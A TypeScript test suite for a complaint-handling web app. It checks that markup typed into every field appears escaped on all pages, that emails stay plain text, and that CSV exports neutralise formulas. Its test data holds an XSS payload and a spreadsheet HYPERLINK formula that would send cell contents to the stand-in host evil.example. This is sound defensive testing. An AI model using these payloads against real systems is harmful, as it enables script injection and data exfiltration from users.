import "../helpers/behind-proxy.js";
import type { Express } from "express";
import request from "supertest";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { waitForIdleQueue } from "../../jobs/queue.js";
import { db } from "../../src/db.js";
import { recomputeScores } from "../../src/scoring/recompute-scores.js";
import { buildUser, DEFAULT_PASSWORD } from "../factories.js";
import { sentMail, signIn, startTestApp, stopTestApp, TestBrowser } from "../helpers/app.js";
import { complaintBody } from "../helpers/complaints.js";
import { RAW_MARKUP } from "../helpers/refusals.js";
import { declaredRoutes, routeKey } from "../helpers/route-inventory.js";
import { act, EVIDENCE_KEY } from "./fixture.js";

/**
 * Markup typed into any field a citizen or staff member fills in — complaint fields, names, unit
 * and office names, reasons, notes, answers, letters, registry and holiday entries, facts and
 * evidence, token names — is shown as text wherever it appears: staff case page, inbox, overview,
 * dashboards, the citizen's status page, letters, score pages and administration pages.
 * Each field carries its own tag so that a test can tell it reached the page (escaped) rather than
 * passing because the field was never shown. Emails are plain text only; the CSV export is an
 * attachment the browser never renders.
 */
const YEAR = 2025;
/** A name a spreadsheet would run as a formula when it opens the CSV export. */
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik")';
const payload = (tag: string) => `${tag}<script>alert(1)</script>"'><img src=x onerror=alert(1)>`;
/** How a payload looks once escaped for HTML (EJS escapes < > " ' &). */
const shown = (tag: string) => `${tag}&lt;script&gt;alert(1)&lt;/script&gt;&#34;&#39;&gt;&lt;img src=x onerror=alert(1)&gt;`;

let app: Express;
let assistant: TestBrowser;
let admin: TestBrowser;
let focal: TestBrowser;
let citizen: TestBrowser;
let trackingNumber: string;
let tripletNumber: string;
let letterId: number;
let unitId: number;

beforeAll(async () => {
  app = await startTestApp();
  const adminUser = await buildUser({ role: "admin" });
  admin = await signIn(app, adminUser.email, DEFAULT_PASSWORD);
  assistant = await signIn(app, (await buildUser({ role: "assistant", name: payload("xassistant") })).email, DEFAULT_PASSWORD);

  // Administration: a unit, the office, an appointment, a staff account and a holiday, all named with markup.
  const ok = (response: request.Response, what: string) => expect(response.status, `${what}: ${response.text.slice(0, 800)}`).toBe(303);
  ok(await admin.submit("/admin/regions/53.01/units/new", "/admin/regions/53.01/units", { name: payload("xunit"), kind: "OTHER", aliases: payload("xalias"), isAssessed: "true" }), "unit");
  unitId = (await db.unit.findFirstOrThrow({ where: { name: payload("xunit") } })).id;
  ok(await admin.submit("/admin/regions/53.01/units/new", "/admin/regions/53.01/units", { name: FORMULA, kind: "OTHER", isAssessed: "true" }), "formula unit");
  ok(await admin.submit("/admin/regions/53.01/offices/inspektorat/edit", "/admin/regions/53.01/offices/inspektorat", { name: payload("xoffice"), address: payload("xofficeaddress"), superiorTitle: payload("xsuperior") }), "office");
  ok(
    await admin.submit("/admin/regions/53.01/offices/inspektorat/appointments/new", "/admin/regions/53.01/offices/inspektorat/appointments", {
      name: payload("xofficer"), position: payload("xposition"), role: "deputy", decreeNumber: payload("xdecree"), decreeDate: "2025-01-02", validFrom: "2025-01-02",
    }),
    "appointment",
  );
  const focalEmail = `fokal.xss.${process.pid}@penghubung.test`;
  ok(await admin.submit("/admin/users/new", "/admin/users", { email: focalEmail, name: payload("xfocal"), role: "focal_point", regionCode: "53.01", office: "inspektorat", password: DEFAULT_PASSWORD }), "user");
  ok(await admin.submit(`/admin/holidays/${YEAR + 1}`, `/admin/holidays/${YEAR + 1}`, { date: `${YEAR + 1}-08-19`, name: payload("xholiday"), kind: "regional", regionCode: "53.01", note: payload("xholidaynote"), isConfirmed: "true" }), "holiday");
  focal = await signIn(app, focalEmail, DEFAULT_PASSWORD);
  await focal.get("/account");
  expect((await focal.post("/account/tokens", { name: payload("xtoken") })).status).toBe(201);

  // A citizen's complaint with markup in every free-text field, and a near twin for the duplicate panel.
  const body = complaintBody({
    reporter: { name: payload("xreporter"), address: payload("xaddress"), email: "pelapor.xss@contoh.id", confidentiality: "public" },
    unitName: payload("xunitname"),
    subject: payload("xsubject"),
    description: `Saya sudah menunggu lama di kantor Dukcapil. ${payload("xdescription")}`,
    priorComplaint: { made: true, to: "unit", date: complaintBody().incidentDate, response: payload("xprior") },
  });
  const filed = await request(app).post("/api/v1/complaints").send(body);
  expect(filed.status, filed.text).toBe(201);
  trackingNumber = filed.body.trackingNumber;
  const twin = await request(app).post("/api/v1/complaints").send({ ...body, description: `Saya sudah menunggu lama di kantor Dukcapil Oelamasi. ${payload("xtwin")}` });
  expect(twin.status).toBe(201);
  citizen = new TestBrowser(app);
  expect((await citizen.submit("/track", "/track", { trackingNumber, accessCode: filed.body.accessCode })).status).toBe(303);
  await citizen.get(`/track/${trackingNumber}`);
  expect((await citizen.postMultipart(`/track/${trackingNumber}/information`, { body: payload("xinformation") })).status).toBe(303);

  // The case through its workflow, every reason, answer and summary carrying markup.
  await act(assistant, trackingNumber, "start_verification", { reason: payload("xverification") });
  await waitForIdleQueue(); // the duplicate check has found the twin
  await act(assistant, trackingNumber, "keep_separate", { candidate: twin.body.trackingNumber, reason: payload("xseparate") });
  await act(assistant, trackingNumber, "verify");
  await act(assistant, trackingNumber, "route");
  await act(focal, trackingNumber, "acknowledge", { reason: payload("xacknowledge") });
  await act(focal, trackingNumber, "forward_to_unit", { reason: payload("xforward") });
  await act(assistant, trackingNumber, "request_clarification", { summary: payload("xclarification") });
  letterId = (await db.coordinationLetter.findFirstOrThrow({ where: { complaint: { trackingNumber } } })).id;
  await focal.get(`/letters/${letterId}`);
  expect((await focal.postMultipart(`/letters/${letterId}/answer`, { body: payload("xletteranswer") })).status).toBe(303);
  await act(focal, trackingNumber, "send_answer", { message: payload("xanswer") });
  await act(focal, trackingNumber, "decide", { outcome: "resolved", summary: payload("xdecision") });
  await act(focal, trackingNumber, "notify_reporter");
  await act(focal, trackingNumber, "close", { reason: payload("xclose") });
  await citizen.get(`/track/${trackingNumber}`);
  expect((await citizen.post(`/track/${trackingNumber}/rating`, { rating: "2", comment: payload("xrating") })).status).toBe(303);

  // The assessment: a fact, a recommendation's evidence, and a computed year.
  await focal.get(`/scores/units/${unitId}/facts`);
  ok(await focal.post(`/scores/units/${unitId}/facts/channel`, { kind: "web", name: payload("xchannel"), openedDate: "2024-01-02", publishedWhere: payload("xpublished") }), "fact");
  await focal.get(`/scores/${YEAR}/regions/53.01/recommendations`);
  ok(await focal.postMultipart(`/scores/${YEAR}/regions/53.01/recommendations/${EVIDENCE_KEY}`, { isDone: "true", note: payload("xevidence") }), "evidence");
  // A third near twin, left undecided, so that its page compares it with the others word by word.
  const triplet = await request(app).post("/api/v1/complaints").send({ ...body, description: `Saya sudah menunggu lama di kantor Dukcapil Kupang. ${payload("xtriplet")} ${payload("xdescription")}` });
  expect(triplet.status).toBe(201);
  tripletNumber = triplet.body.trackingNumber;
  await waitForIdleQueue();
  await recomputeScores({ year: YEAR, trigger: "staff", now: new Date(`${YEAR}-12-01T00:00:00Z`) });
}, 180_000);
afterAll(stopTestApp);

async function expectEscaped(browser: TestBrowser, url: string, tags: string[]) {
  const response = await browser.get(url);
  expect(response.status, `${url}: ${response.text.slice(0, 500)}`).toBe(200);
  expect(response.text, url).not.toMatch(RAW_MARKUP);
  for (const tag of tags) expect(response.text, `${url} shows ${tag}`).toContain(shown(tag));
}

describe("markup typed into a complaint and its handling", () => {
  it("is shown as text on the staff case page", async () => {
    await expectEscaped(assistant, `/complaints/${trackingNumber}`, [
      "xreporter", "xaddress", "xunitname", "xsubject", "xdescription", "xprior", "xinformation", "xverification", "xacknowledge", "xforward", "xletteranswer", "xanswer", "xdecision", "xclose", "xfocal", "xoffice",
    ]);
  });

  it("is shown as text in the duplicate panel: the decision's reason, and the two texts side by side with their differences marked", async () => {
    await expectEscaped(assistant, `/complaints/${trackingNumber}`, ["xseparate"]);
    const page = await assistant.get(`/complaints/${tripletNumber}`);
    expect(page.text).toMatch(/<(ins|del)>/);
    expect(page.text).not.toMatch(RAW_MARKUP);
    expect(page.text).toContain(shown("xtriplet"));
    expect(page.text).toContain("xdescription&lt;script&gt;");
  });

  it("is shown as text in the inbox, the overview and the dashboards", async () => {
    await expectEscaped(focal, "/inbox", ["xsubject"]);
    await expectEscaped(assistant, `/inbox?q=${encodeURIComponent(trackingNumber)}`, ["xsubject"]);
    await expectEscaped(assistant, "/overview", []);
    await expectEscaped(assistant, "/dashboard", ["xassistant"]);
    await expectEscaped(focal, "/dashboard", ["xfocal", "xunit"]);
    await expectEscaped(admin, "/dashboard", []);
  });

  it("is shown as text on the citizen's status page", async () => {
    await expectEscaped(citizen, `/track/${trackingNumber}`, ["xsubject", "xdescription", "xinformation", "xanswer", "xdecision", "xrating"]);
  });

  it("is shown as text in the coordination letter and its answer", async () => {
    await expectEscaped(focal, `/letters/${letterId}`, ["xsubject", "xclarification", "xletteranswer", "xoffice"]);
  });

  it("is sent only in plain-text emails", async () => {
    const mail = await sentMail();
    const carrying = mail.filter((m) => m.includes("alert(1)") || /=3Cscript=3E/i.test(m));
    expect(carrying.length).toBeGreaterThan(0);
    for (const message of mail) {
      expect(message).not.toMatch(/content-type:\s*text\/html/i);
      expect(message).toMatch(/content-type:\s*text\/plain/i);
    }
  });
});

describe("markup typed into the registry, accounts, holidays and the assessment", () => {
  it("is shown as text on the administration pages", async () => {
    await expectEscaped(admin, "/admin/regions/53.01", ["xunit", "xoffice", "xofficer", "xdecree"]);
    await expectEscaped(admin, `/admin/regions/53.01/units/${unitId}/edit`, ["xunit"]);
    await expectEscaped(admin, "/admin/regions/53.01/offices/inspektorat/edit", ["xoffice", "xofficeaddress", "xsuperior"]);
    await expectEscaped(admin, "/admin/users", ["xfocal", "xassistant"]);
    await expectEscaped(admin, `/admin/holidays/${YEAR + 1}`, ["xholiday"]);
    await expectEscaped(admin, "/admin/regions", []);
    await expectEscaped(focal, "/account", ["xtoken"]);
  });

  it("is shown as text on the score pages, the facts and the recommendations", async () => {
    await expectEscaped(assistant, `/scores/${YEAR}/regions/53.01`, ["xunit"]);
    await expectEscaped(assistant, `/scores/${YEAR}/regions/53.01/report`, ["xunit"]);
    await expectEscaped(assistant, `/scores/${YEAR}/units/${unitId}`, ["xunit"]);
    await expectEscaped(focal, `/scores/units/${unitId}/facts`, ["xunit", "xchannel", "xpublished"]);
    await expectEscaped(focal, `/scores/${YEAR}/regions/53.01/recommendations`, ["xevidence"]);
  });

  it("is shown as text on the public transparency pages once the year is published", async () => {
    expect((await assistant.submit("/admin/scoring", `/admin/scoring/${YEAR}/publish`, {})).status).toBe(303);
    const visitor = new TestBrowser(app);
    await expectEscaped(visitor, `/transparency?year=${YEAR}`, []);
    await expectEscaped(visitor, `/transparency/53.01?year=${YEAR}`, ["xunit"]);
  });

  it("is shown as text in the letter template's form and preview", async () => {
    const saved = await admin.submit("/admin/letter-templates", "/admin/letter-templates", { subject: payload("xtemplatesubject"), body: `Dengan hormat, {{trackingNumber}} ${payload("xtemplatebody")}` });
    expect(saved.status, saved.text.slice(0, 500)).toBe(303);
    await expectEscaped(admin, "/admin/letter-templates", ["xtemplatesubject", "xtemplatebody"]);
  });

  it("leaves the CSV export a download the browser never renders", async () => {
    const response = await assistant.get(`/scores/${YEAR}/export.csv`);
    expect(response.status).toBe(200);
    expect(response.headers["content-type"]).toMatch(/^text\/csv/);
    expect(response.headers["content-disposition"]).toMatch(/^attachment;/);
    expect(response.headers["x-content-type-options"]).toBe("nosniff");
    expect(response.text).toContain(payload("xunit").replace(/"/g, '""'));
    // A cell that starts like a formula is kept as text: the apostrophe spreadsheets read as "text".
    expect(response.text).toContain(`"'${FORMULA.replace(/"/g, '""')}"`);
    expect(response.text).not.toMatch(/(^|,)"?[=+@-][A-Za-z]/m);
  });
});

describe("every page of the site with these records in it", () => {
  it("never carries the raw markup, whoever opens it", async () => {
    const routes = declaredRoutes(app).filter((r) => r.method === "GET" && !r.path.startsWith("/api/") && !r.path.startsWith("/open311/"));
    const fill = (path: string) =>
      path
        .replace(/\/holidays\/:year\/:id/, `/holidays/${YEAR + 1}/0`)
        .replace(/\/units\/:id/, `/units/${unitId}`)
        .replace(/\/facts\/:kind\/:id/, "/facts/channel/1")
        .replace(":trackingNumber", trackingNumber)
        .replace(":code", "53.01")
        .replace(":year", String(YEAR))
        .replace(":unitId", String(unitId))
        .replace(":key", EVIDENCE_KEY)
        .replace(":kind", "inspektorat")
        .replace(":id", String(letterId))
        .replace(":locale", "en");
    let pages = 0;
    for (const route of routes) {
      for (const browser of [admin, assistant, focal, citizen]) {
        const response = await browser.agent.get(fill(route.path));
        if (!/^text\/html/.test(response.headers["content-type"] ?? "")) continue;
        pages += 1;
        expect(response.text, `${routeKey(route)} (${fill(route.path)})`).not.toMatch(RAW_MARKUP);
      }
    }
    expect(pages).toBeGreaterThan(routes.length);
  });
});
